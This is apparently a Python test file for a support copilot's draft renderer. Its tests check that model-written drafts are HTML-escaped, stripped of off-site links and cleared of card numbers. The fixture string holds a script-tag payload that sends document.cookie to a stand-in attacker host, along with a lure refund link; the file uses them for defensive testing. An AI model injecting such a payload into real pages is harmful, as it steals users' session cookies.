"""Model output is untrusted: drafts are escaped, links allow-listed and PII masked before the agent sees them."""

from copilot.render import render_draft

MALICIOUS = (
    "Hi Ana, <script>fetch('https://evil.example/c?'+document.cookie)</script> "
    "see [your refund](http://helio-refunds.example.net/claim) or card 4111 1111 1111 1111."
)


def test_html_is_escaped():
    html = render_draft(MALICIOUS)
    assert "<script>" not in html
    assert "&lt;script&gt;" in html


def test_links_outside_the_help_centre_are_removed():
    html = render_draft(MALICIOUS)
    assert "helio-refunds.example.net" not in html
    assert render_draft("[Moving](https://help.helio.example/kb/0770)").count("href=") == 1


def test_card_numbers_are_masked():
    assert "4111" not in render_draft(MALICIOUS)
